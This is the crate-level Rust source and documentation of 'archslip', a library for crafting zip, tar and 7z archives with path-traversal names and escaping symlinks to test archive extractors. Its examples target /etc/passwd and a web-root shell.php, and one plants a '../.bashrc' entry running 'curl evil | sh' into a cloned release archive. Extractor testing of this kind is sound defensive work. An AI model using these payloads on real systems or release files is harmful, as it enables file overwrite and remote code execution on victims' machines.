//! # archslip
//!
//! Builds crafted zip, tar and 7z archives for testing how extractors
//! handle hostile members: path-traversal ("archive slip") names and
//! symlinks pointing outside the extraction root.
//!
//! Member names are written verbatim. Nothing is normalised, deduplicated
//! or sanitised; producing those names is the point of the crate.
//!
//! ## Quick Start
//!
//! ### Writing Entries Directly
//!
//! ```rust,no_run
//! use archslip::{ArchiveType, CompressionMethod, EntryDescriptor, OpenMode, Result};
//!
//! fn main() -> Result<()> {
//!     let mut writer = archslip::open(
//!         "payload.zip",
//!         ArchiveType::Zip,
//!         CompressionMethod::Deflate,
//!         OpenMode::Write,
//!     )?;
//!     writer.add(&EntryDescriptor::regular("../../../../tmp/pwned", b"owned\n".to_vec()))?;
//!     writer.add(&EntryDescriptor::symlink("config", "/etc/passwd").with_mode(0o777))?;
//!     let summary = writer.close()?;
//!     println!("{} members, {} bytes", summary.members.len(), summary.archive_size);
//!     Ok(())
//! }
//! ```
//!
//! ### Traversal Search
//!
//! ```rust
//! use archslip::payload::generate;
//!
//! let candidates = generate("/var/www/shell.php", 3, "../");
//! assert_eq!(candidates.as_slice()[3], "../../../var/www/shell.php");
//! ```
//!
//! ### Injecting Into an Existing Archive
//!
//! ```rust,no_run
//! use archslip::{ArchiveCloner, EntryDescriptor, Result};
//!
//! fn main() -> Result<()> {
//!     // Keeps every original member and the zip compression of the first one.
//!     let mut writer = ArchiveCloner::clone("release.zip", "release-patched.zip")?;
//!     writer.add(&EntryDescriptor::regular("../.bashrc", b"curl evil | sh\n".to_vec()))?;
//!     writer.close()?;
//!     Ok(())
//! }
//! ```
//!
//! ### Payload Plans
//!
//! [`PayloadPlan`] bundles the whole workflow (naming, symlink synthesis,
//! search expansion, mass-find dictionaries, cloning) behind one builder;
//! the `archslip` binary is a thin layer over it.
//!
//! ## Feature Flags
//!
//! | Feature | Default | Description |
//! |---------|---------|-------------|
//! | `lzma` | Yes | LZMA compression (zip, 7z) |
//! | `lzma2` | Yes | LZMA2 compression for 7z (includes `lzma`) |
//! | `deflate` | Yes | Deflate for zip and 7z, gzip for tar |
//! | `bzip2` | Yes | BZip2 for all three containers |
//! | `ppmd` | Yes | PPMd compression for 7z |
//! | `zstd` | Yes | Zstandard compression for 7z |
//! | `brotli` | Yes | Brotli compression for 7z |
//! | `xz` | Yes | xz wrapping for `.tar.xz` |
//! | `cli` | No | Command-line interface tool |
//!
//! A codec that is compiled out makes writers fail with
//! [`Error::CodecUnavailable`] when an entry needs it.
//!
//! ## Error Handling
//!
//! All operations return [`Result<T>`], an alias for
//! `std::result::Result<T, Error>`:
//!
//! ```rust,no_run
//! use archslip::{ArchiveCloner, Error};
//!
//! match ArchiveCloner::clone("input.bin", "copy.bin") {
//!     Ok(writer) => println!("appending to {}", writer.format()),
//!     Err(Error::CloneSourceInvalid { reason, .. }) => eprintln!("not an archive: {reason}"),
//!     Err(e) => eprintln!("error: {e}"),
//! }
//! ```
//!
//! ## Minimum Supported Rust Version (MSRV)
//!
//! This crate requires **Rust 1.85** or later.

#![cfg_attr(docsrs, feature(doc_cfg))]
#![warn(missing_docs)]
#![warn(rust_2018_idioms)]

pub mod catalog;
pub mod clone;
pub mod codec;
pub mod entry;
pub mod error;
pub mod format;
pub mod payload;
pub mod plan;
pub mod timestamp;
pub mod write;

pub use catalog::{ArchiveType, CompressionCatalog, CompressionMethod, ContainerFormat, TarWrapper};
pub use clone::ArchiveCloner;
pub use codec::CodecOptions;
pub use entry::{EntryDescriptor, EntryHeader, EntryKind};
pub use error::{Error, Result};
pub use format::detect::{detect_format, detect_format_from_bytes};
pub use payload::{TraversalSequence, generate};
pub use plan::{MassFindMode, PayloadPlan, SymlinkNamer, SymlinkSpec};
pub use timestamp::{DosDateTime, Timestamp};

// Re-export writing API at crate root for convenience
pub use write::{
    ArchiveSink, ArchiveWriter, OpenMode, SevenZipWriter, TarWriter, WriteSummary, ZipWriter, open,
};
